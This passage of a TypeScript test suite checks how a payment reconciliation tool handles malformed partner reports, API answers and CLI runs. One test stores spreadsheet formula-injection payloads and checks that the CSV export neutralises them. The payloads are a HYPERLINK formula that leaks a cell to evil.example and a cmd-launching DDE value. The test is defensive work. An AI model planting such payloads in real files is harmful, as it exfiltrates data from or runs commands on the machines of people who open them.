 * acme-formula.csv: formulas are partner data like any other, stored and shown verbatim; only the CSV export
 * (which a spreadsheet opens) prefixes them with `'`. The JSON export keeps them as they are.
 */
async function checkFormulaExport({ sql, partner }: CaseContext): Promise<void> {
  const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1;"click")';
  const stored = await sql.query(
    'SELECT reference, partner_reference FROM partner_records WHERE partner = $1 ORDER BY line',
    [partner],
  );
  expect(stored.rows.map((row) => [row.reference, row.partner_reference])).to.deep.equal([
    ['order-1001', '000100001'],
    [hyperlink, '000100009'],
    ["+1+cmd|' /C calc'!A0", '@SUM(1+1)'],
    ['-2+3', '=1+1'],
    ['order-1002', '000100002'],
    ['order-1003', '000100003'],
  ]);

  const csv = new PassThrough();
  const chunks: Buffer[] = [];
  csv.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeDiscrepanciesCsv(streamDiscrepancies(sql, { partner: [partner] }), csv);
  const records = parse(Buffer.concat(chunks).toString('utf8'), { bom: true, columns: true }) as Record<
    string,
    string
  >[];
  const orphans = records
    .filter((record) => record.kind === 'orphan_partner_record')
    .map((record) => [record.reference, record.partnerReference])
    .sort();
  expect(orphans).to.deep.equal(
    [
      [`'${hyperlink}`, '000100009'],
      ["'+1+cmd|' /C calc'!A0", "'@SUM(1+1)"],
      ["'-2+3", "'=1+1"],
    ].sort(),
  );

  const json = new PassThrough();
  const jsonChunks: Buffer[] = [];
  json.on('data', (chunk: Buffer) => jsonChunks.push(chunk));
  await writeDiscrepanciesJson(streamDiscrepancies(sql, { partner: [partner] }), json);
  const exported = JSON.parse(Buffer.concat(jsonChunks).toString('utf8')) as Record<string, string>[];
  expect(
    exported
      .filter((row) => row.kind === 'orphan_partner_record')
      .map((row) => [row.reference, row.partnerReference])
      .sort(),
  ).to.deep.equal(
    [
      [hyperlink, '000100009'],
      ["+1+cmd|' /C calc'!A0", '@SUM(1+1)'],
      ['-2+3', '=1+1'],
    ].sort(),
  );
}

/** `FILE` and `PARTNER` in a manifest regex, filled in for one case. */
function expand(pattern: RegExp, values: { file: string; partner: string }): RegExp {
  return new RegExp(
    pattern.source
      .replace('FILE', escapeRegExp(values.file))
      .replace('PARTNER', escapeRegExp(values.partner)),
    pattern.flags,
  );
}

function expectRejections(
  actual: ReconciliationResult['rejected'],
  expected: Rejection[],
  what: string,
): void {
  expect(
    actual.map((row) => ({ line: row.line, field: row.field })),
    `${what}: rejected rows`,
  ).to.deep.equal(expected.map((row) => ({ line: row.line, field: row.field })));
  expected.forEach((row, i) => {
    expect(actual[i].reason, `${what}: reason of line ${row.line}`).to.match(row.reason);
    // One huge or hostile cell must never flood the run row, the logs or the review page.
    expect(actual[i].reason.length, `${what}: reason length`).to.be.below(300);
  });
}

async function statusesOf(sql: Pool, partner: string): Promise<Record<string, string>> {
  const { rows } = await sql.query<{ reference: string; status: string }>(
    'SELECT reference, status FROM intents WHERE partner = $1 ORDER BY reference',
    [partner],
  );
  return Object.fromEntries(rows.map((row) => [row.reference, row.status]));
}

interface Figure {
  file: string;
  status: string;
  rowsRead: number;
  rowsRejected: number;
  ms: number;
}

describe('faults: bad input (a corpus of broken partner reports and API answers)', function () {
  this.timeout(30_000);
  const db = useFreshDatabase('bad_input');
  let ledger: Ledger;
  let sql: Pool;
  let fake: FakePartner;
  let generatedDir: string;
  let unhandled: ReturnType<typeof trackUnhandledRejections>;
  const figures: Figure[] = [];

  before(async () => {
    unhandled = trackUnhandledRejections();
    ledger = await testLedger(db.url, { leaseMs: 30_000 });
    sql = sqlPool(db.url);
    fake = await startFakePartner({ token: 'bad-input-token' });
    generatedDir = await mkdtemp(join(tmpdir(), 'bad-reports-'));
    for (const entry of MANIFEST) entry.generate?.(join(generatedDir, entry.file));
  });
  after(async () => {
    if (figures.length > 0) {
      const failed = figures.filter((f) => f.status === 'failed').length;
      console.log(
        `      figures: ${figures.length} files, ${failed} failed runs, ${figures.length - failed} succeeded, ` +
          `${figures.reduce((sum, f) => sum + f.ms, 0)} ms in reconcile(); slowest ` +
          JSON.stringify([...figures].sort((a, b) => b.ms - a.ms).slice(0, 3)),
      );
    }
    unhandled?.stop();
    await fake?.close();
    await ledger?.close();
    await sql?.end();
    if (generatedDir) await rm(generatedDir, { recursive: true, force: true });
  });
  afterEach(() => fake.setFault(undefined));

  it('has a corpus of at least 30 files, every committed one used once', async () => {
    const { readdirSync } = await import('node:fs');
    const committed = readdirSync(BAD_REPORTS).sort();
    const used = MANIFEST.filter((entry) => !entry.generate).map((entry) => entry.file);
    expect(MANIFEST.length).to.be.at.least(30);
    expect([...used].sort()).to.deep.equal(committed);
    expect(new Set(MANIFEST.map((entry) => entry.file)).size).to.equal(MANIFEST.length);
  });

  /** Stuck intents for `partner`: order-1001..1003, unknown, attempts started at `at`. */
  async function stuckIntents(partner: string, at: string | undefined): Promise<void> {
    const startedAt =
      at === 'an hour ago' ? minutes(await dbNow(sql), -60) : new Date(at ?? '2025-03-10T10:30:00Z');
    for (const reference of REFERENCES) {
      const id = await unknownIntent(ledger, spec(partner, reference));
      await place(sql, id, { startedAt });
    }
  }

  function reconcilerFor(entry: CorpusEntry, partner: string): ReconcilerConfig {
    if (entry.dialect === 'acme-pay') return acmeReconciler(partner);
    if (entry.dialect === 'utf8') return utf8Reconciler(partner);
    if (entry.dialect === 'adyen') return adyenReconciler(partner);
    if (entry.dialect === 'paypal') return paypalReconciler(partner);
    if (entry.dialect === 'cielo') return cieloReconciler(partner);
    // The corpus's items are dated 10 March 2025: the listing is asked for (and declares) that month, so its
    // rows are judged for what they hold, not for lying outside the window.
    return {
      ...apiReconciler(partner, fake.url),
      coverage: { from: '2025-03-01T00:00:00Z', to: '2025-04-01T00:00:00Z' },
    };
  }

  MANIFEST.forEach((entry, index) => {
    const title = `${entry.file}${entry.generate ? ' (generated)' : ''}: ${entry.broken} -> ${
      entry.expect.run === 'failed' ? 'failed run' : 'run succeeds'
    }${entry.expect.rejected?.length ? `, ${entry.expect.rejected.length} rejected` : ''}${entry.bug ? ' [BUG: current behaviour]' : ''}`;
    it(title, async () => {
      const partner = `${entry.dialect}-bad-${String(index + 1).padStart(2, '0')}`;
      const path = join(entry.generate ? generatedDir : BAD_REPORTS, entry.file);
      await stuckIntents(partner, entry.intentsAt);
      if (entry.dialect === 'api') {
        const body = await readFile(path, 'utf8');
        fake.setFault(() =>
          entry.file.endsWith('.html.body')
            ? { kind: 'garbage', body }
            : { kind: 'status', status: 200, body: body as string },
        );
      }
      const log: { level: string; object: object; message: string }[] = [];
      const before = await snapshot(sql);
      const started = Date.now();
      const reports = await reconcile({
        pool: sql,
        reconciler: reconcilerFor(entry, partner),
        file: entry.dialect === 'api' ? undefined : path,
        logger: capturingLogger(log),
        env: { GLOBEX_API_TOKEN: 'bad-input-token' },
      });
      const ms = Date.now() - started;
      expect(reports).to.have.length(1);
      const report = reports[0];
      figures.push({
        file: entry.file,
        status: report.status,
        rowsRead: report.rowsRead,
        rowsRejected: report.rowsRejected,
        ms,
      });
      const what = entry.file;

      // The outcome the manifest documents.
      expect(report.status, `${what}: status (error: ${report.error})`).to.equal(entry.expect.run);
      if (entry.expect.run === 'failed') {
        expect(report.error, `${what}: error`).to.match(expand(entry.expect.error, { file: path, partner }));
        expect(report.error!.length, `${what}: error length`).to.be.below(1_000);
      } else {
        expect(report.error, `${what}: error`).to.equal(null);
      }
      expectRejections(report.rejected, entry.expect.rejected ?? [], what);
      expect(report.rowsRejected).to.equal(report.rejected.length);
      if (entry.rowsRead !== undefined) expect(report.rowsRead, `${what}: rowsRead`).to.equal(entry.rowsRead);

      // Recorded: the run row says the same thing, NUL bytes escaped (text and jsonb cannot hold them).
      const row = await runRow(sql, report.runId);
      expect(row.status).to.equal(report.status);
      expect(row.error).to.equal(report.error === null ? null : withoutNul(report.error));
      expect(row.rows_read).to.equal(report.rowsRead);
      expect(row.rows_rejected).to.equal(report.rowsRejected);
      expect(row.rejected).to.deep.equal(
        report.rejected.map((r) => ({
          line: r.line,
          field: withoutNul(r.field),
          reason: withoutNul(r.reason),
        })),
      );
      expect(row.finished_at).to.be.instanceOf(Date);

      // Applied all or nothing.
      const after = await snapshot(sql);
      if (entry.expect.run === 'failed' || entry.expect.appliesNothing) {
        expect(after, `${what}: a failed run applies nothing`).to.deep.equal(before);
        expect(report.matched).to.equal(0);
        expect(report.resolved).to.deep.equal({ completed: 0, notExecuted: 0 });
      }
      const expectedStatuses = Object.fromEntries(REFERENCES.map((reference) => [reference, 'unknown']));
      if (entry.expect.run === 'succeeded') Object.assign(expectedStatuses, entry.expect.settles ?? {});
      expect(await statusesOf(sql, partner), `${what}: intents`).to.deep.equal(expectedStatuses);

      // Nothing crashed: bad input is a report problem (warn), never an unexpected error, and no promise
      // was left rejected behind the run.
      expect(
        log.filter((e) => e.level === 'error'),
        `${what}: error-level log entries`,
      ).to.deep.equal([]);
      if (entry.expect.run === 'failed') {
        expect(log.map((e) => e.message)).to.include('reconciliation run failed; nothing applied');
      }
      expect(unhandled.seen, `${what}: unhandled rejections`).to.deep.equal([]);

      await entry.check?.({ ledger, partner, path, report, sql });
    });
  });

  describe('through the CLI (intent-ledger reconcile <partner> --file F --json --reconcilers reconcilers/)', () => {
    const cliFigures: { file: string; code: number | null; ms: number }[] = [];
    after(() => {
      if (cliFigures.length > 0) console.log(`      CLI figures: ${JSON.stringify(cliFigures)}`);
    });

    before(async () => {
      // The real partner names of reconcilers/: the CLI loads acme-pay.ts and globex-sms.ts through tsx.
      await stuckIntents('acme-pay', undefined);
      await stuckIntents('globex-sms', 'an hour ago');
    });

    async function cli(file: string, partner = 'acme-pay') {
      const args = ['reconcile', partner, '--json', '--reconcilers', join(REPO_ROOT, 'reconcilers')];
      if (partner === 'acme-pay') args.push('--file', join(BAD_REPORTS, file));
      const result = await runCli(args, {
        DATABASE_URL: db.url,
        LOG_LEVEL: 'warn',
        GLOBEX_API_URL: fake.url,
        GLOBEX_API_TOKEN: 'bad-input-token',
      });
      cliFigures.push({ file, code: result.code, ms: result.ms });
      return result;
    }

    const failures: { file: string; error: RegExp; rejected: Rejection[] }[] = [
      {
        file: 'acme-unterminated-quote.csv',
        error: /^FILE: line 3: unterminated quote/,
        rejected: [],
      },
      {
        file: 'acme-amount-nan.csv',
        error: threshold(1, 3, 0.01),
        rejected: [{ line: 3, field: 'VALOR', reason: /^"NaN" is not a valid amount: NaN is not a number$/ }],
      },
      {
        file: 'acme-nul-byte.csv',
        error: threshold(1, 3, 0.01),
        rejected: [{ line: 3, field: 'PEDIDO', reason: /^"order-\\u00001002" contains a NUL byte$/ }],
      },
      { file: 'acme-empty.csv', error: /^FILE: file is empty$/, rejected: [] },
    ];
    for (const failure of failures) {
      it(`${failure.file}: exit 1, JSON status failed with the error and the rejected rows; nothing applied`, async () => {
        const before = await snapshot(sql);
        const result = await cli(failure.file);
        expect(result.code, result.stderr).to.equal(1);
        const json = JSON.parse(result.stdout);
        const path = join(BAD_REPORTS, failure.file);
        expect(json.status).to.equal('failed');
        expect(json.source).to.equal(path);
        expect(json.error).to.match(expand(failure.error, { file: path, partner: 'acme-pay' }));
        expectRejections(json.rejected, failure.rejected, failure.file);
        expect((await runRow(sql, json.runId)).status).to.equal('failed');
        expect(await snapshot(sql)).to.deep.equal(before);
        // The warning line on stderr is pino JSON (LOG_LEVEL=warn): no stack trace, no crash.
        expect(result.stderr).to.not.match(/^\s+at /m);
        expect(result.stderr).to.include('reconciliation run failed; nothing applied');
      });
    }

    it('api-cursor-loop.json.body from globex-sms: exit 1, JSON error says the cursor repeats; nothing applied', async () => {
      const body = await readFile(join(BAD_REPORTS, 'api-cursor-loop.json.body'), 'utf8');
      fake.setFault(() => ({ kind: 'status', status: 200, body }));
      const before = await snapshot(sql);
      const result = await cli('api-cursor-loop.json.body', 'globex-sms');
      expect(result.code, result.stderr).to.equal(1);
      const json = JSON.parse(result.stdout);
      expect(json.status).to.equal('failed');
      expect(json.error).to.match(/^partner globex-sms: cursor repeated at page 2/);
      expect(json.rejected).to.deep.equal([]);
      expect(await snapshot(sql)).to.deep.equal(before);
    });

    it('acme-cr-only.csv: exit 0, JSON status succeeded, the stuck intents completed', async () => {
      const result = await cli('acme-cr-only.csv');
      expect(result.code, result.stderr).to.equal(0);
      const json = JSON.parse(result.stdout);
      expect(json).to.include({ status: 'succeeded', rowsRead: 3, rowsRejected: 0, matched: 3, error: null });
      expect(json.resolved).to.deep.equal({ completed: 3, notExecuted: 0 });
      expect(await statusesOf(sql, 'acme-pay')).to.deep.equal(ALL_COMPLETED);
    });

    it('a usage error exits 2', async () => {
      const result = await runCli(['reconcile', '--json'], { DATABASE_URL: db.url });
      expect(result.code).to.equal(2);
    });
  });
});
